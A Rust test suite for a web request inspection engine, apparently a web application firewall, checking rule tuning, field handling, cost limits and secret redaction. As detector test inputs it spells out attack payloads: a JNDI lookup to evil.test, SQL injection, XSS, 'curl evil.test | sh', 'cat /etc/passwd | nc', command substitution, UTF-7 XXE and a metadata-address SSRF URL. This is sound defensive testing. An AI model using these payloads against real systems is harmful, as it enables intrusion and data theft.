//! What profiles make of evidence: nothing hides anything, and nothing that is off or elsewhere counts.

use std::sync::Arc;

use http::{HeaderMap, HeaderValue, Method, header::CONTENT_TYPE};

use super::{Engine, FieldKind, FieldRule, Head, Part, Profile, Report, Rule, RuleFile, Settings, Tuning, steps};

const JNDI: &str = "${jndi:ldap://evil.test/a}";
const NOISE: &str = "' or 1=1 union select sleep(9)-- <script>alert(1)</script><svg onload=alert(1)> ; cat /etc/passwd | nc a.b 1 `id` $(id) \
    <img src=x onerror=alert(1)> javascript:alert(1) && curl evil.test | sh ' having 1=1 ; drop table a; exec xp_cmdshell 'a' waitfor delay '0:0:9' ";

fn rules(more: &str) -> Vec<Rule> {
    let mut rules = RuleFile::ready_made().expect("ready-made rules");
    rules.append(&mut RuleFile::parse(more).expect("rules").rule);
    rules
}

fn profile(more: &str, settings: Settings) -> Profile {
    Profile::new(Arc::new(Engine::new(rules(more)).expect("compiled")), settings).expect("a profile")
}

fn ask(profile: &Profile, query: &[(&str, &str)]) -> Report {
    let query: String = form_urlencoded::Serializer::new(String::new()).extend_pairs(query).finish();
    let head = Head { method: &Method::GET, path: "/x", query: Some(&query), headers: &HeaderMap::new() };
    profile.judge(&head, None)
}

fn field(trail: &str, kind: FieldKind) -> FieldRule {
    FieldRule { part: Part::Query, trail: trail.to_owned(), kind }
}

#[test]
fn what_does_not_count_silences_nothing_that_does() {
    let fields = vec![field("q", FieldKind::Code)];
    let code = profile("", Settings { fields, ..Settings::default() });
    assert!(!ask(&code, &[("q", NOISE)]).is_attack, "code in a field of code");
    assert!(ask(&code, &[("q", &format!("{NOISE}{JNDI}"))]).is_attack);
    let tuning = ["sqli", "xss", "rce", "lfi"].map(|class| (class.to_owned(), Tuning::Shadow)).to_vec();
    let shadow = profile("", Settings { tuning, ..Settings::default() });
    let many: Vec<_> = (0..40).map(|_| ("a", NOISE)).chain([("q", JNDI)]).collect();
    let report = ask(&shadow, &many);
    assert!(report.is_attack && report.findings.iter().any(|finding| finding.score > 0), "{report:?}");
}

#[test]
fn xml_whose_letters_stand_for_markup_is_stopped_wherever_it_stands() {
    let all = profile("", Settings::default());
    let bodies = |encoding: &str| {
        let xml = format!("<?xml version='1.0' encoding='{encoding}'?>+ADwAIQ-DOCTYPE x SYSTEM 'http://x/'+AD4-<x/>");
        let json = serde_json::json!({ "xml": xml }).to_string();
        let form = form_urlencoded::Serializer::new(String::new()).append_pair("xml", &xml).finish();
        [(None, xml), (Some("application/json"), json), (Some("application/x-www-form-urlencoded"), form)]
    };
    for (encoding, is_stopped) in
        [("UTF-7", true), ("x-unicode-2-0-utf-7", true), ("Shift_JIS", false), ("utf-8", false)]
    {
        for (kind, body) in bodies(encoding) {
            let kinds = kind.map(|kind| (CONTENT_TYPE, HeaderValue::from_static(kind)));
            let headers = HeaderMap::from_iter(kinds);
            let head = Head { method: &Method::POST, path: "/x", query: None, headers: &headers };
            let report = all.judge(&head, Some(body.as_bytes()));
            let is_found = report.findings.iter().any(|finding| finding.rule == "xxe.encoding");
            assert_eq!(
                (is_found, report.is_attack || report.fault.is_some()),
                (is_stopped, is_stopped),
                "{encoding} {kind:?}: {report:?}"
            );
        }
    }
}

#[test]
fn the_way_to_a_value_is_no_way_around_the_bound() {
    let field = |trail: &str| FieldRule { part: Part::Body, trail: trail.to_owned(), kind: FieldKind::Code };
    let headers = HeaderMap::from_iter([(CONTENT_TYPE, HeaderValue::from_static("application/json"))]);
    let head = Head { method: &Method::POST, path: "/x", query: None, headers: &headers };
    let body = |depth: usize, key: &str, value: &str| {
        let values = vec![format!("\"{value}\""); 1_000].join(",");
        format!("{}[{values}]{}", format!("{{\"{key}\":").repeat(depth), "}".repeat(depth))
    };
    let is_refused = |trail: &str, depth: usize, key: &str, value: &str| {
        let profile = profile("", Settings { fields: vec![field(trail)], ..Settings::default() });
        profile.judge(&head, Some(body(depth, key, value).as_bytes())).is_attack
    };
    for (trail, depth, key, value, want) in [
        ("messages[*].content", 20, "a".repeat(100), "<script>", false),
        ("**.content", 20, "a".repeat(100), "<script>", false),
        ("a**b*c**d", 20, "ab".to_owned(), "<script>", false),
        ("a**b*c**", 20, "ab".repeat(50), "<script>", true),
        ("content", 4, "address".to_owned(), "http://10.0.0.1", false),
        ("content", 20, "a".repeat(100), "http://10.0.0.1", true),
        ("content", 4, "op".to_owned(), "like null", false),
        ("content", 20, "a".repeat(100), "like null", true),
    ] {
        assert_eq!(is_refused(trail, depth, &key, value), want, "{trail} {depth} {value}");
    }
}

#[test]
fn rules_of_ones_own_for_single_values_make_none_too_costly() {
    let own = |n| {
        format!(
            "[[rule]]\nid = \"own.{n}\"\nclass = \"custom\"\nscore = 1\nabout = \"\"\nwhere = [\"body:orders[*].**\"]\nregex = \"^{n}$\"\n"
        )
    };
    let profile = profile(&(0..40).map(own).collect::<String>(), Settings::default());
    let headers = HeaderMap::from_iter([(CONTENT_TYPE, HeaderValue::from_static("application/json"))]);
    let head = Head { method: &Method::POST, path: "/x", query: None, headers: &headers };
    let order = r#"{"customer":{"address":{"country":{"code":"DE"},"street":{"number":"7 b"}}}}"#;
    let report = profile.judge(&head, Some(format!("{{\"orders\":[{}]}}", vec![order; 500].join(",")).as_bytes()));
    assert!(report.findings.is_empty(), "{report:?}");
}

#[test]
fn what_counts_nowhere_in_a_field_takes_no_time_there() {
    let fields = vec![field("code", FieldKind::Code)];
    let profile = profile("", Settings { fields, ..Settings::default() });
    let slow = "exec(exec(exec\n\n".repeat(64);
    let steps_in = |name: &str| {
        let before = steps::taken();
        let report = ask(&profile, &[(name, &slow)]);
        (steps::taken() - before, report.findings.iter().any(|finding| finding.rule == "structure.too-costly"))
    };
    let (text, code) = (steps_in("q"), steps_in("code"));
    assert!(text.1 && !code.1 && code.0 * 4 < text.0, "{text:?} {code:?}");
}

#[test]
fn what_takes_too_long_hides_nothing_where_that_alone_is_not_refused() {
    let strict = profile("", Settings { threshold: 40, ..Settings::default() });
    let slow = "exec(exec(exec\n\n".repeat(64);
    let met = |value: &str| -> Vec<_> {
        ask(&strict, &[("q", value)]).findings.into_iter().map(|finding| finding.rule).collect()
    };
    assert!(met(&slow).iter().any(|rule| rule == "structure.too-costly"), "{:?}", met(&slow));
    let (alone, behind) = (met(JNDI), met(&format!("{slow}{JNDI}")));
    assert!(!alone.is_empty() && alone.iter().all(|rule| behind.contains(rule)), "{alone:?} {behind:?}");
}

#[test]
fn no_number_of_texts_hides_a_rule() {
    let own: String = (0..200)
        .map(|n| {
            format!("[[rule]]\nid = \"own.{n}\"\nclass = \"custom\"\nscore = 0\nabout = \"a\"\nany = [\"text-{n}-\"]\n")
        })
        .collect();
    let last = "[[rule]]\nid = \"own.last\"\nclass = \"custom\"\nscore = 5\nabout = \"a\"\nany = [\"the last\"]\n";
    let profile = profile(&format!("{own}{last}"), Settings::default());
    let texts: String = (0..200).map(|n| format!("text-{n}- ")).collect();
    assert!(!ask(&profile, &[("q", &texts)]).is_attack);
    assert!(ask(&profile, &[("q", &format!("{texts}the last"))]).is_attack);
}

#[test]
fn no_padding_makes_a_short_value_long() {
    let usual = profile("", Settings::default());
    for value in ["java.lang.Runtime", "utl_http", "phpinfo();", "| whoami"] {
        for padded in [value.to_owned(), format!("{}{value}{}", "\n".repeat(5_000), " ".repeat(900))] {
            assert!(ask(&usual, &[("q", &padded)]).is_attack, "{value} in {} bytes", padded.len());
        }
    }
}

#[test]
fn a_value_that_wakes_nobody_takes_no_more_steps_than_others() {
    let near: Vec<_> = (1..=4).flat_map(|n| [format!("\",,,,{n}\""), format!("\",,,,,,,,{n}\"")]).collect();
    let own = format!(
        "[[rule]]\nid = \"own.near\"\nclass = \"custom\"\nscore = 5\nabout = \"a\"\nany = [{}]\n",
        near.join(", ")
    );
    let value = ",".repeat(1_000);
    let found = |more: &str| -> Vec<_> {
        ask(&profile(more, Settings::default()), &[("q", &value)]).findings.into_iter().map(|met| met.rule).collect()
    };
    assert_eq!(found(""), [""; 0]);
    assert_eq!(found(&own), ["structure.too-costly"]);
}

#[test]
fn one_weak_sign_in_many_values_stays_weak() {
    let own = "[[rule]]\nid = \"own.weak\"\nclass = \"custom\"\nscore = 3\nabout = \"a\"\nany = [\"weak sign\"]\n";
    let profile = profile(own, Settings::default());
    for count in [1, 31, 33, 100] {
        let many: Vec<_> = (0..count).map(|_| ("a", "%41 weak sign")).collect();
        assert_eq!(ask(&profile, &many).score, 3, "{count}");
    }
}

#[test]
fn the_way_that_says_most_of_a_field_counts() {
    let fields = vec![field("**", FieldKind::Opaque), field("name", FieldKind::Text)];
    let profile = profile("", Settings { fields, ..Settings::default() });
    assert!(ask(&profile, &[("name", "1' or '1'='1")]).is_attack);
    assert!(!ask(&profile, &[("other", "1' or '1'='1")]).is_attack);
}

#[test]
fn classes_and_rules_are_tuned_as_they_say() {
    let with = |tuning: &[(&str, Tuning)]| {
        let tuning = tuning.iter().map(|(name, tuning)| ((*name).to_owned(), *tuning)).collect();
        profile("", Settings { tuning, ..Settings::default() })
    };
    let query = [("q", "1' union select a from b-- ")];
    let found: Vec<_> = ask(&with(&[]), &query).findings.into_iter().map(|finding| finding.rule).collect();
    assert!(!ask(&with(&[("sqli", Tuning::Off)]), &query).is_attack);
    let all: Vec<_> = found.iter().map(|rule| (&**rule, Tuning::On)).chain([("sqli", Tuning::Off)]).collect();
    assert!(ask(&with(&all), &query).is_attack, "a rule is on though its class is off: {found:?}");
    let headers =
        HeaderMap::from_iter([(http::header::CONTENT_TYPE, http::HeaderValue::from_static("application/json"))]);
    let head = Head { method: &Method::POST, path: "/x", query: None, headers: &headers };
    for (tuning, want) in
        [(&[][..], true), (&[("structure", Tuning::Shadow)], false), (&[("structure.malformed", Tuning::Off)], false)]
    {
        let report = with(tuning).judge(&head, Some(b"{\"a\":1} x"));
        assert_eq!((report.is_attack, report.fault.is_some()), (want, true), "{tuning:?}");
    }
}

#[test]
fn secrets_are_not_shown() {
    let profile = profile("", Settings::default());
    for (name, value) in [
        ("password", "hunter2' or 1=1 -- x"),
        ("access_token", "hunter2' or 1=1 -- x"),
        ("url", "http://admin:hunter2@169.254.169.254/"),
    ] {
        let report = ask(&profile, &[(name, value)]);
        assert!(report.is_attack, "{name}");
        assert!(!format!("{report:?}").contains("hunter2"), "{report:?}");
    }
}
